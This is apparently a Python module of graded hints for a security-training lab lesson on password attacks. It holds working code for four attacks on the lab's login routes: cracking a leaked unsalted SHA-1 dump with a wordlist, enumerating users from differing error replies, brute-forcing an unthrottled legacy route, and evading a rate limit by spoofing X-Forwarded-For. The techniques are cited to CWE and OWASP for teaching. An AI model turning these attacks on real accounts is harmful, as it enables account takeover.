"""Lesson 03's hint ladders: per flag, a nudge, the technique (cited), then the steps.

The steps' code runs as it is on a fresh lab (tests/lessons/test_hints.py) and passes the
exercise's grader; the learner notebook gives the goal and a clue, never these lines.
"""

from __future__ import annotations

CRACK_STEPS = """\
1. Read GET /backup/accounts.csv: a username and 'sha1$' + the SHA-1 of the password.
2. SHA-1 every word of load_wordlist() once, into a dict from 'sha1$<hex>' to the word.
3. Look each leaked hash up; log in as a customer you cracked; the answer holds the flag.
```python
import hashlib
from labapp.lessons.common import load_wordlist

lines = lab.client.get("/backup/accounts.csv").text.splitlines()[1:]
leaked = dict(line.split(",") for line in lines)  # username -> "sha1$<hex>"
table = {"sha1$" + hashlib.sha1(w.encode()).hexdigest(): w for w in load_wordlist()}
user, password = next((u, table[h]) for u, h in leaked.items() if h in table)
answer = lab.client.post("/login", json={"username": user, "password": password})
flag_crack = answer.json()["flag"]\nlab.check_flag("crack-dump", flag_crack)
```"""

ENUMERATE_STEPS = """\
1. Send every name in CANDIDATES to POST /v1/login with any password (it never says 429).
2. Every name that does not exist gets 404 {"detail": "no such user"}; one gets 401 instead.
3. That one's answer carries support_ref: it is the flag.
```python
from labapp.lessons.l03_passwords.app import CANDIDATES

answers = {}
for name in CANDIDATES:
    answers[name] = lab.client.post("/v1/login", json={"username": name, "password": "x1"})
odd = [name for name, a in answers.items() if a.json() != {"detail": "no such user"}]
print("exists:", odd)
flag_enum = answers[odd[0]].json()["support_ref"]\nlab.check_flag("enumerate-users", flag_enum)
```"""

BRUTE_STEPS = """\
1. Try the words of load_wordlist(), in order, as frank's password on POST /v1/login.
2. Stop at the first 200: /v1/login never counts failures, so nothing stops you before it.
3. The 200's body holds the flag.
```python
from labapp.lessons.common import load_wordlist

for word in load_wordlist():
    reply = lab.client.post("/v1/login", json={"username": "frank", "password": word})
    if reply.status_code == 200:
        break
flag_brute = reply.json()["flag"]\nlab.check_flag("brute-force", flag_brute)
```"""

BYPASS_STEPS = """\
1. lab.audit() counts your failures 'under key' 'unknown': /login keys its count on
   X-Forwarded-For, a header a proxy adds, your request lacked, and anyone can write.
2. Guess grace's password on /login with a new X-Forwarded-For on every try: no key reaches 10.
3. Stop at the first 200; its body holds the flag.
```python
from labapp.lessons.common import load_wordlist

for n, word in enumerate(load_wordlist()):
    claimed = {"X-Forwarded-For": f"198.51.100.{n % 250 + 1}"}  # a "new client" each time
    guess = {"username": "grace", "password": word}
    reply = lab.client.post("/login", json=guess, headers=claimed)
    if reply.status_code == 200:
        break
flag_bypass = reply.json()["flag"]\nlab.check_flag("throttle-bypass", flag_bypass)
```"""

CRACK = (
    "The API document lists an export from January 2024 that nobody removed. Read it: "
    "what does each stored value look like, and could you compute the same kind of "
    "value yourself, for a guess?",
    "An offline dictionary attack on fast, unsalted hashes (CWE-759 Use of a One-Way "
    "Hash without a Salt; CWE-916 Use of Password Hash With Insufficient Computational "
    "Effort; OWASP Password Storage Cheat Sheet): hash every candidate once with the "
    "same function, then look the leaked values up.",
    CRACK_STEPS,
)

ENUMERATE = (
    "In Explore you failed twice: as alice, and as a name nobody has. Put the two "
    "answers side by side. Forty failures also meet /login's limit: the API document "
    "lists more than one way to log in.",
    "User enumeration through an observable response discrepancy (CWE-204 Observable "
    "Response Discrepancy; OWASP Authentication Cheat Sheet, 'Authentication and Error "
    "Messages'; ASVS 5.0 6.3.8): any difference between 'no such user' and 'wrong "
    "password' (status, body or time) tells which names exist.",
    ENUMERATE_STEPS,
)

BRUTE = (
    "You met /login's limit (or try it: ten wrong passwords in a row). Which way in did "
    "attack 2 use without ever seeing a 429, and what is it kept for?",
    "An online dictionary attack through a route without a limit (CWE-307 Improper "
    "Restriction of Excessive Authentication Attempts; OWASP API Security Top 10 2023 "
    "API2:2023 Broken Authentication, brute force 'without presenting captcha/account "
    "lockout mechanism', and API9:2023 Improper Inventory Management, an old API "
    "version left running).",
    BRUTE_STEPS,
)

BYPASS = (
    "Guess at grace on /login until it answers 429, then read lab.audit(): every "
    "failure says which key it was counted 'under'. Where could that key come from, "
    "and who chooses it?",
    "A rate-limit bypass by spoofing the client's address: the limit trusts "
    "X-Forwarded-For, a header the client writes (CWE-348 Use of Less Trusted Source; "
    "PortSwigger Web Security Academy, 'Flawed brute-force protection'). OWASP's "
    "Authentication Cheat Sheet ('Account Lockout'): the counter 'should be associated "
    "with the account itself, rather than the source IP address'.",
    BYPASS_STEPS,
)
